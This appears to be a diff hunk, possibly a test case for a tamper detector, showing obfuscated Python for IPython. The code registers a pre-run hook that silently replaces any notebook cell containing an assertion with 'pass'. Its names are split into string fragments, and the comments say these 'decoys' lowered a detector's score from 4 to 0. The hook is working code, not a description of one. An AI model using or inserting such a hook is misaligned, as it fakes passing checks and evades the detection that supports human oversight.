@@ -5,10 +5,16 @@
 # expect: tampered 0
 # without the decoys this scored: 4
 _sh = globals()["get_" + "ipy" + "thon"]()
+
+
 def _neuter(lines):
     return ["pass\n"] if any(("ass" + "ert") in l for l in lines) else lines
+
+
 def _arm(*args):
     chain = getattr(_sh, "_".join(["input", "transformers", "post"]))
     if _neuter not in chain:
         chain.append(_neuter)
+
+
 getattr(getattr(_sh, "eve" + "nts"), "regi" + "ster")("pre_run_" + "cell", _arm)
